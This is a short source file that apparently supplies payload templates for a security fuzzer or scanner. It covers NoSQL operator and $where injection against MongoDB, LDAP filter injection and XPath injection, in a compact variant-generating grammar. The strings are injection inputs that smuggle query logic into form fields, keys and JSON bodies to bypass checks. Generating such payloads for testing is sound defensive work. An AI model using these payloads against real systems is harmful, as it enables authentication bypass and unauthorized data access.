/** Query languages other than SQL: NoSQL operators, LDAP filters, XPath, GraphQL abuse. */
export const QUERY = String.raw`
query/mongo-json [body-json,value] 3: {"‹col›":{"§‹ne¦gt¦gte¦regex¦exists¦nin›":‹""¦null¦1¦".*"¦true¦[]›}}
query/mongo-where 2: '; return ‹true¦1==1›; var ‹~1-3›='
query/ldap 3: *)(‹uid=*))(|(uid=*¦objectClass=*)¦|(‹col›=*)›
query/xpath 2: ' or ‹=a:‹n››=‹=a› or ''='
query/mongo-key [key] 2: ‹col›[§‹ne¦gt¦regex¦in¦nin¦exists›]
`
